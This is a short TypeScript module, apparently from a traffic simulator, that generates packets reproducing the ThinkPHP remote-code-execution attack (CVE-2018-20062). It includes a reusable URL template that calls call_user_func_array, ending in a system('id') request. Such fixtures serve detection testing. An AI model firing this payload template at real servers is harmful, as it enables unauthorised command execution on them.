import {attacker} from './hosts.ts';
import type {Scene} from './scene.ts';
import {webAttack} from './web-attack.ts';

const call = (what: string, argument: string): string =>
  `/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=${what}&vars[1][]=${argument}`;

export const thinkphp = {
  name: 'thinkphp',
  describe: 'a source calls PHP functions through the ThinkPHP router (CVE-2018-20062)',
  minute: 65,
  packets: random =>
    webAttack(
      {
        from: attacker(90),
        port: 80,
        requests: [
          {target: call('md5', 'demo')},
          {target: call('phpinfo', '1')},
          {target: call('system', 'id')},
        ],
      },
      random,
    ),
} as const satisfies Scene;
